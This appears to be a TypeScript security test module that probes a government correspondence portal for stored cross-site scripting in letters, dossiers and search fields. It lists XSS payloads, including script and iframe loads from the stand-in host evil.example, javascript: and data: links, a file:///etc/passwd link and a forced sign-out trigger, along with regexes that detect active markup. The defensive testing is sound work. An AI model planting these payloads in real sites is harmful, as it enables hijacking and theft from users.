/** Case 30: markup in what agencies and people write, on the pages that show it. */
import { type Attack, type Attempt, pairs } from "../attack.ts";
import { LETTER, type Portal, portalOf } from "../portal.ts";
import type { Stage } from "../stage.ts";

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '"><iframe src=//evil.example>',
  "'\" onmouseover=alert(1) x='",
  "</title></bdi></p></main><script src=//evil.example></script>",
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><button formaction="javascript:alert(1)">',
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<button hx-get="/sign-out" hx-trigger=load>x</button>',
  "<!--<script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "\\u003cscript\\u003e",
  "${alert(1)} {{alert(1)}} <%= 1 %>",
];

/** Links of Markdown that lead to where nothing may lead. */
const LINKS = [
  ..."javascript:alert(1) JaVaScRiPt:alert(1) java%0ascript:alert(1) vbscript:x".split(" "),
  ..."data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD4=".split(" "),
  ..."&#106;avascript:alert(1) &Tab;javascript:alert(1) \\javascript:alert(1)".split(" "),
  ..."//evil.example \\\\evil.example /\\evil.example https:evil.example /sign-out".split(" "),
  ..."blob:x file:///etc/passwd view-source:x intent:x ftp://evil.example #main ?a".split(" "),
  ..."https://example.ir@evil.example https://user:pass@evil.example http://".split(" "),
];
const SHAPES: ((to: string) => string)[] = [
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
  (to) => `[x]\n\n[x]: ${to}`,
  (to) => `[x](${to} "onmouseover=alert(1)")`,
  (to) => to,
];

/** What would act outside the values of attributes: a tag that such pages do not have, or an attribute. */
const ACTING = /<(?:img|iframe|object|embed|base|style|svg[^>]*onload|link rel=import)\b/gi;
const ACTS = /<[a-z][^>]*\s(?:on\w+|formaction|srcdoc|style)\s*=/gi;
const LEADS = /<a\b[^>]*\shref="([^"]*)"/gi;

/** @returns what is active on the page and not on one with plain text */
function activeOn(html: string, plain: string): string[] {
  const found = (text: string, pattern: RegExp) =>
    text.replaceAll(/="[^"]*"/g, '=""').match(pattern) ?? [];
  const surplus = (pattern: RegExp) => {
    const all = found(html, pattern);
    return all.length > found(plain, pattern).length ? all : [];
  };
  const astray = [...html.matchAll(LEADS)].map(([, href]) => href)
    .filter((href) => !/^(?:\/(?![/\\])|[?#]|tel:\+?\d|https?:\/\/[^/@]+(?:[/?#]|$))/.test(href));
  const patterns = [
    ACTING,
    ACTS,
    /<script/gi,
    /<form/gi,
    /<meta/gi,
    /<button/gi,
    /<[a-z][^>]*\shx-get/gi,
  ];
  return [...patterns.flatMap(surplus), ...astray];
}

/** Writes the text into one place. @returns the page that shows it, or `null` if it was refused */
type Writes = (stage: Stage, portal: Portal, text: string) => Promise<string | null>;

async function letter(portal: Portal, more: object): Promise<string | null> {
  const { call, target: { token, own } } = portal;
  const { status, json } = await call({
    ...{ method: "POST", path: "/letters", token },
    body: { ...LETTER, recipient: { subject: own }, ...more },
    headers: { "idempotency-key": crypto.randomUUID() },
  });
  return status === 202 ? json().id : null;
}

async function dossier(portal: Portal, more: object): Promise<string | null> {
  const { call, target: { token, own } } = portal;
  const { status, json } = await call({
    ...{ method: "PUT", path: `/dossiers/${crypto.randomUUID()}`, token },
    body: { kind: "permit", title: "پروانه", recipient: { subject: own }, ...more },
  });
  return status === 201 ? json().dossier.id : null;
}

const page = (path: string, id: string | null) => id === null ? null : `${path}${id}`;

/** A word that finds nothing. */
const NOBODYS = "zzqqxx";

const WRITES: Record<string, Writes> = {
  "a letter's text": async (_, portal, body) => page("/letters/", await letter(portal, { body })),
  "a letter's title": async (_, portal, title) =>
    page("/letters/", await letter(portal, { title })),
  "a letter's title in the list": async (_, portal, text) => {
    // Alone in what is found.
    const word = crypto.randomUUID().replaceAll("-", "");
    return await letter(portal, { title: `${word} ${text}` }) && `/letters?q=${word}`;
  },
  "a letter's number": async (_, portal, text) =>
    page("/letters/", await letter(portal, { number: text.slice(0, 50) })),
  "the reason of a withdrawal": async (_, portal, reason) => {
    const { call, target: { token } } = portal;
    const id = await letter(portal, {});
    const path = `/letters/${id}/withdrawal`;
    const { status } = await call({ method: "POST", path, token, body: { reason } });
    return status === 204 ? `/letters/${id}` : null;
  },
  "a dossier's title": async (_, portal, title) =>
    page("/dossiers/", await dossier(portal, { title })),
  "a dossier's desk": async (_, portal, name) =>
    page("/dossiers/", await dossier(portal, { desk: { name: name.slice(0, 100) } })),
  "what a dossier lacks": async (_, portal, label) => {
    const missing = [{ id: "a", label, way: { by: "post", to: label } }];
    return page("/dossiers/", await dossier(portal, { missing }));
  },
  "a link of what it lacks": async (_, portal, path) => {
    const missing = [{ id: "a", label: "عکس", way: { by: "link", path } }];
    return page("/dossiers/", await dossier(portal, { missing }));
  },
  "a search of services": (_, __, text) =>
    Promise.resolve(`/services?${new URLSearchParams({ q: `${text} ${NOBODYS}` })}`),
  "a search of letters": (_, __, text) =>
    Promise.resolve(`/letters?${new URLSearchParams({ q: `${text} ${NOBODYS}` })}`),
  "an agency's name in the address": (_, __, text) =>
    Promise.resolve(`/letters?${new URLSearchParams({ agency: text })}`),
  "the page that a question is about": (_, __, text) =>
    Promise.resolve(`/support/new?${new URLSearchParams({ page: text })}`),
};

const plainPages = new Map<string, Promise<string>>();

async function attempt(stage: Stage, place: string, text: string): Promise<Attempt> {
  const portal = await portalOf(stage);
  const shown = async (text: string) => {
    const path = await WRITES[place](stage, portal, text);
    return path && (await stage.browser.send(stage.origin + path)).text;
  };
  const plain = plainPages.get(place) ?? shown("/plain").then((html) => html ?? "");
  plainPages.set(place, plain);
  const html = await shown(text);
  const active = html === null ? [] : activeOn(html, await plain);
  return {
    name: `${place}: ${text}`,
    got: html === null ? "refused" : "inert",
    ...active.length > 0 && { breach: active.join(", ") },
  };
}

export const STORED_MARKUP_ATTACKS: Attack[] = [
  {
    number: 30,
    title: "markup in letters, dossiers and searches",
    expected: "refused, or text",
    attempts: (stage) =>
      pairs(Object.keys(WRITES), MARKUP).map(([place, text]) => () => attempt(stage, place, text)),
  },
  {
    number: 30,
    title: "links of Markdown to scripts, data, other sites and the window's own pages",
    expected: "text, or a link that leads where it says",
    attempts: (stage) =>
      pairs(LINKS, SHAPES).map(([to, shape]) => () => attempt(stage, "a letter's text", shape(to))),
  },
];
